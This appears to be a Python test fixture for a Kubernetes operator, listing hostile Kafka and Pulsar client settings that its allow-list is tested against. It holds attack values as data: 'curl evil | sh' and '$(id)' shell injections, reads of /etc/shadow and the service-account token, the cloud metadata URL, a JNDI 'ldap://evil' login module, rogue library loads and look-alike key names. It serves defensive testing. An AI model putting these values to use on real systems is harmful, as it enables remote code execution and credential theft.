"""Hostile settings of clients: libraries, commands, files, addresses, and names that look like innocent ones.

Names of librdkafka, of Pulsar's client and of Java's clients, which do not run here: a list of what is allowed knows no
difference between what is dangerous and what is unknown.
"""

from typing import Final

from tests.operator.hostile import KAFKA, PULSAR, SECRET, Hostile, harmless

TOKEN: Final = "/var/run/secrets/kubernetes.io/serviceaccount/token"
METADATA_SERVICE: Final = "http://169.254.169.254/latest/meta-data/"


def kafka(name: str, value: str, tries: str) -> Hostile:
    return Hostile(f"kafka: {name!r}", tries, ((f"{KAFKA}/client", {"properties": {name: value}}),))


def pulsar(name: str, value: str, tries: str) -> Hostile:
    return Hostile(f"pulsar: {name!r}", tries, ((f"{PULSAR}/client", {"properties": {name: value}}),))


LIBRDKAFKA: Final = (
    kafka("plugin.library.paths", "/history/evil.so", "load a library"),
    kafka("ssl.engine.location", "/history/evil.so", "load an OpenSSL engine"),
    kafka("ssl.engine.id", "dynamic", "choose an OpenSSL engine"),
    kafka("ssl.providers", "/history/evil", "load an OpenSSL provider"),
    kafka("sasl.kerberos.kinit.cmd", "sh -c 'curl evil | sh'", "run a command"),
    kafka("sasl.kerberos.keytab", "/etc/krb5.keytab", "use the node's identity"),
    kafka("sasl.kerberos.principal", "root", "be somebody else"),
    kafka("sasl.kerberos.service.name", "$(id)", "have it put into a command"),
    kafka("ssl.key.location", TOKEN, "read a file of the pod"),
    kafka("ssl.certificate.location", TOKEN, "show a file of the pod to a server"),
    kafka("ssl.keystore.location", TOKEN, "read a file of the pod"),
    kafka("ssl.ca.location", "/etc/shadow", "read a file of the pod"),
    kafka("ssl.crl.location", "/proc/1/environ", "read a file of the pod"),
    kafka("ssl.ca.certificate.stores", "Root", "choose whom to trust"),
    kafka("ssl.key.pem", SECRET, "have a key stand in the resource"),
    kafka("ssl.key.password", SECRET, "have a password stand in the resource"),
    kafka("https.ca.location", "/etc/shadow", "read a file of the pod"),
    kafka("enable.ssl.certificate.verification", "false", "trust anybody"),
    kafka("ssl.endpoint.identification.algorithm", "none", "trust anybody"),
    kafka("security.protocol", "SASL_SSL", "authenticate past the Secret"),
    kafka("sasl.mechanisms", "PLAIN", "authenticate past the Secret"),
    kafka("sasl.username", "admin", "authenticate past the Secret"),
    kafka("sasl.password", SECRET, "have a password stand in the resource"),
    kafka("sasl.oauthbearer.method", "oidc", "make HTTP requests"),
    kafka("sasl.oauthbearer.token.endpoint.url", METADATA_SERVICE, "ask the cloud's metadata service"),
    kafka("sasl.oauthbearer.metadata.authentication.type", "azure_imds", "ask the cloud's metadata service"),
    kafka("sasl.oauthbearer.client.secret", SECRET, "have a password stand in the resource"),
    kafka("sasl.oauthbearer.config", "principal=admin", "be somebody else"),
    kafka("sasl.oauthbearer.assertion.file", TOKEN, "send a file of the pod away"),
    kafka("sasl.oauthbearer.assertion.private.key.file", TOKEN, "read a file of the pod"),
    kafka("sasl.oauthbearer.assertion.jwt.template.file", TOKEN, "send a file of the pod away"),
    kafka("enable.sasl.oauthbearer.unsecure.jwt", "true", "be anybody"),
    kafka("bootstrap.servers", "kafka.production.svc:9092", "write to somebody else's brokers"),
    kafka("metadata.broker.list", "kafka.production.svc:9092", "the same by its other name"),
    kafka("client.dns.lookup", "resolve_canonical_bootstrap_servers_only", "be sent to other brokers"),
    kafka("group.id", "theirs", "join somebody else's group"),
    kafka("transactional.id", "theirs", "fence somebody else's producer"),
    kafka("enable.idempotence", "false", "take back what the variant is to show"),
    kafka("test.mock.num.brokers", "3", "be judged on brokers that are not real"),
    kafka("internal.termination.signal", "9", "have signals sent"),
    kafka("offset.store.path", "/history/../etc", "write a file"),
    kafka("debug", "all", "fill the node's disk with logs, settings in them"),
    kafka("log_cb", "os.system", "name a function"),
    kafka("error_cb", "os.system", "name a function"),
    kafka("oauth_cb", "os.system", "name a function"),
    kafka("logger", "root", "be given an object"),
    kafka("on_delivery", "print", "hear of outcomes first"),
    kafka("default.topic.config", "{}", "set what a topic's producer has, unseen"),
    kafka("message.timeout.ms", "1", "have the tester's own sends fail"),
    kafka("queue.buffering.max.messages", "10000000", "take all of the pod's memory"),
    kafka("statistics.interval.ms", "1", "drown the tester in statistics"),
)

JAVA: Final = (
    kafka("sasl.jaas.config", 'com.sun.security.auth.module.JndiLoginModule required url="ldap://evil";', "run code"),
    kafka("security.providers", "evil.Provider", "load a class"),
    kafka("interceptor.classes", "evil.Interceptor", "load a class"),
    kafka("metric.reporters", "evil.Reporter", "load a class"),
    kafka("partitioner.class", "evil.Partitioner", "load a class"),
    kafka("key.serializer", "evil.Serializer", "load a class"),
    kafka("sasl.login.callback.handler.class", "evil.Handler", "load a class"),
    kafka("ssl.truststore.location", "/etc/shadow", "read a file of the pod"),
    kafka("config.providers", "env", "have ${env:NAME} filled in"),
)

LOOK_ALIKES: Final = (
    kafka("Plugin.Library.Paths", "/history/evil.so", "another case"),
    kafka(" plugin.library.paths", "/history/evil.so", "a space in front"),
    kafka("plugin.library.paths\n", "/history/evil.so", "a line break behind"),
    kafka("plugin\u2024library\u2024paths", "/history/evil.so", "dots that are others"),
    kafka("linger.ms\nplugin.library.paths", "x", "two names in one"),
    kafka("linger.ms=0\u0000", "x", "an end before the end"),
    kafka("linger\u200b.ms", "0", "a space of no width"),
    kafka("l\u0456nger.ms", "0", "a letter of another alphabet"),
    kafka("topic.plugin.library.paths", "x", "a prefix that a library may cut off"),
    kafka("--linger.ms", "0", "a flag"),
    kafka("", "x", "no name at all"),
    kafka("__class__", "x", "a name that Python knows"),
)

PULSARS: Final = (
    pulsar("authentication", "evil.Auth", "load a plugin"),
    pulsar("auth_plugin", "/history/evil.so", "load a library"),
    pulsar("authPluginClassName", "evil.Auth", "load a class (Java's name)"),
    pulsar("service_url", "pulsar://broker.production.svc:6650", "write to somebody else's brokers"),
    pulsar("listener_name", "internal", "take another way"),
    pulsar("tls_trust_certs_file_path", "/etc/shadow", "read a file of the pod"),
    pulsar("tls_private_key_file_path", TOKEN, "read a file of the pod"),
    pulsar("tls_certificate_file_path", TOKEN, "show a file of the pod to a server"),
    pulsar("tls_allow_insecure_connection", "true", "trust anybody"),
    pulsar("crypto_key_reader", "evil.Reader", "name an object"),
    pulsar("schema", "evil.Schema", "name a class"),
    pulsar("message_router", "os.system", "name a function"),
    pulsar("logger", "root", "be given an object"),
    pulsar("producer_name", "theirs", "fence somebody else's producer"),
    pulsar("initial_sequence_id", "999999999", "have every message taken for a duplicate"),
    pulsar("linger.ms", "0", "a setting of the other client"),
    pulsar("__init__", "x", "a name that Python knows"),
)

_TEXT: Final = "it stands in the JSON that the run's pod reads, is given to librdkafka as text, and nowhere else"

VALUES: Final = tuple(
    harmless(f"a value: {what}", tries, _TEXT, (f"{KAFKA}/client", {"properties": {"client.id": value}}))
    for what, value, tries in (
        ("a variable", "$(AWS_SECRET_ACCESS_KEY)", "have Kubernetes put a key there"),
        ("a template", "{{ .Values.owner.uid }}{{ lookup }}", "have Helm fill it in"),
        ("an end of a text", '"}, "endpoints": {"direct_bootstrap": "evil"}}', "close the JSON"),
        ("more YAML", "x\nhostNetwork: true\n---\nkind: Pod", "add a document"),
        ("a shell", "'; curl evil | sh; `id` $(id) #", "be read by a shell"),
        ("a flag", "--kubeconfig=/tmp/evil", "be read as a flag"),
        ("a hidden one", "\u202e\u0000\u001b[2J", "fool whoever looks at it"),
        ("as long as may be", "\U0001f4a5" * 1024, "fill everything"),
    )
)

CLIENTS: Final = (*LIBRDKAFKA, *JAVA, *LOOK_ALIKES, *PULSARS, *VALUES)
